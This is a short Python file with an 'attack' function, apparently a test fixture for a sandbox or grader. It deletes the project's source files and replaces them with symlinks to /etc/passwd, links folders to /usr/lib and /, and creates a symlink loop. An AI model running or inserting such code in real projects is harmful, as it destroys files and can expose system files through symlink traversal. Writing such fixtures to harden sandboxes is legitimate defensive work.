import os
import shutil


def attack():
    for name in ("tools.py", "main.py", "attack.py"):
        if os.path.exists(name):
            os.remove(name)
        os.symlink("/etc/passwd", name)
    for folder in ("a", "cases", "in.txt"):
        os.symlink("/usr/lib", folder)
    os.makedirs("/tmp/deep/deeper")
    os.symlink("/", "/tmp/deep/deeper/root")
    os.symlink("loop", "loop")
    shutil.rmtree("__pycache__", ignore_errors=True)
